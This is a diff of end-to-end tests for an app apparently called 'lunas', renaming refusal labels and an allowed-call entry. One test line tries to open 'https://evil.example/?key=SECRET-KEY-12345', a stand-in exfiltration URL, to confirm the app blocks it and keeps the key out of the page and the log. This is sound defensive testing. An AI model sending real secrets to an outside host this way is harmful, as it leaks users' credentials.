@@ -158,7 +158,7 @@ test('only links on the list reach the browser', async ({ openOnSimulator }) => 
       )
     )
   )
-  expect(answers).toEqual(['opened', 'linkRefused', 'linkRefused', 'linkRefused'])
+  expect(answers).toEqual(['opened', 'linkRejected', 'linkRejected', 'linkRejected'])
   expect(await app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)).toEqual([
     'https://kiriminaja.com/'
   ])
@@ -185,7 +185,7 @@ test('calls are taken from our page only, and refused with wrong input', async (
     'receipts',
     'settings',
     'slips',
-    'transfers',
+    'importExport',
     'views',
     'watches'
   ])
@@ -220,10 +220,10 @@ test('the key reaches neither the page nor the log', async ({ startOnSimulator, 
   const everything = await page.evaluate(async () => {
     const state = await window.lunas.app.state()
     const set = await window.lunas.settings.setKey({ environment: 'sandbox', key: 'SECRET-KEY-12345' })
-    const refused = await window.lunas.settings.setKey({ environment: 'sandbox', key: 'SECRET-KEY 12345' })
+    const rejected = await window.lunas.settings.setKey({ environment: 'sandbox', key: 'SECRET-KEY 12345' })
     const test = await window.lunas.settings.testKey({ environment: 'sandbox' })
     const failed = await window.lunas.app.openLink({ url: 'https://evil.example/?key=SECRET-KEY-12345' })
-    return JSON.stringify([state, set, refused, test, failed, await window.lunas.app.state()])
+    return JSON.stringify([state, set, rejected, test, failed, await window.lunas.app.state()])
   })
   expect(everything).not.toContain('SECRET-KEY')
   expect(everything).not.toContain('sandbox-key')
